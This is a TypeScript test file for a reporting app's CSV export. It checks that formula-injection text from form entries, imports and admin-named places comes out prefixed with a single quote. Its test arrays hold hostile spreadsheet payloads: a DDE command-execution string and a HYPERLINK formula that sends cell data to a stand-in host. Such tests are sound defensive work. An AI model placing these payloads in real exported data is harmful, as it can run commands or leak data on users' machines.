import { parse } from 'csv-parse/sync';
import type TestAgent from 'supertest/lib/agent';
import { ImportsService } from '../src/imports/imports.service';
import { startTestApp, TestApp } from './harness';

/**
 * CSV (formula) injection: texts that a spreadsheet would run as formulas, filed in the form or imported, come out of
 * the Excel export as text (a single quote in front, OWASP), whoever typed them.
 */
describe('the CSV export neutralises formulas', () => {
  let t: TestApp;
  let reporter: TestAgent;
  let coordinator: TestAgent;
  let admin: TestAgent;
  let norrby: { id: string; places: { id: string; name: string }[] };
  let categoryId: string;

  beforeAll(async () => {
    t = await startTestApp();
    reporter = await t.signIn('rapportor@exempelbostader.se');
    coordinator = await t.signIn('samordnare@exempelstad.se');
    admin = await t.signIn('admin@exempelstad.se');
    const areaId = ((await coordinator.get('/api/areas')).body as { id: string; name: string }[]).find((a) => a.name === 'Norrby')!.id;
    norrby = (await coordinator.get(`/api/areas/${areaId}`)).body;
    categoryId = ((await coordinator.get('/api/categories')).body as { id: string; code: string }[]).find((c) => c.code === 'skadegorelse')!.id;
  });
  afterAll(() => t.stop());

  const FORM_TEXTS = ['=HYPERLINK("http://x/?"&A1,"klick")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)'];
  const IMPORTED_TEXTS = ["=cmd|' /C calc'!A0 importerad", '+46 importerad', '-1 importerad', '@SUM(2) importerad', '=HYPERLINK("http://x/")'];

  const exported = async (): Promise<Record<string, string>[]> => {
    const res = await coordinator.get(`/api/reports/export.csv?areaId=${norrby.id}`);
    expect(res.status).toBe(200);
    return parse<Record<string, string>>(res.text, { delimiter: ';', bom: true, columns: true });
  };

  it('filed in the form: the description is exported with a single quote in front, otherwise intact', async () => {
    for (const description of FORM_TEXTS) {
      const res = await reporter.post('/api/reports').send({
        areaId: norrby.id,
        placeId: norrby.places[0].id,
        categoryId,
        occurredAt: new Date(Date.now() - 3_600_000).toISOString(),
        assessment: 'low',
        policeNotified: false,
        description,
      });
      expect(res.status).toBe(201);
      // Stored as typed: the protection is in the export, not in the data.
      expect(res.body.description).toBe(description);
    }
    const texts = (await exported()).map((r) => r.Beskrivning);
    for (const text of FORM_TEXTS) {
      expect(texts).toContain(`'${text}`);
      expect(texts).not.toContain(text);
    }
  });

  it('imported from a CSV file: the same', async () => {
    const csv = [
      'Händelse-id;Tidpunkt;Område;Plats;Kategori;Beskrivning',
      ...IMPORTED_TEXTS.map((d, i) => `F-${i};2026-10-0${i + 1} 21:30;Norrby;${norrby.places[0].name};Skadegörelse;"${d.replace(/"/g, '""')}"`),
    ].join('\r\n');
    const started = await coordinator.post('/api/reports/import').field('areaId', norrby.id).attach('file', Buffer.from(csv, 'utf8'), 'formler.csv');
    expect(started.status).toBe(202);
    await t.app.get(ImportsService).idle();
    expect((await coordinator.get(`/api/imports/${started.body.id}`)).body).toMatchObject({ status: 'completed', importedRows: IMPORTED_TEXTS.length });
    const texts = (await exported()).map((r) => r.Beskrivning);
    for (const text of IMPORTED_TEXTS) {
      expect(texts).toContain(`'${text}`);
      expect(texts).not.toContain(text);
    }
  });

  it('names given by an administrator (a place) are neutralised too, and no cell of the file starts a formula', async () => {
    const place = await admin.post(`/api/areas/${norrby.id}/places`).send({ name: '=1+1 Torget' });
    expect(place.status).toBe(201);
    await reporter
      .post('/api/reports')
      .send({
        areaId: norrby.id,
        placeId: place.body.id,
        categoryId,
        occurredAt: new Date(Date.now() - 3_600_000).toISOString(),
        assessment: 'low',
        policeNotified: false,
        description: 'Klotter',
      })
      .expect(201);
    const rows = await exported();
    expect(rows.map((r) => r.Plats)).toContain("'=1+1 Torget");
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
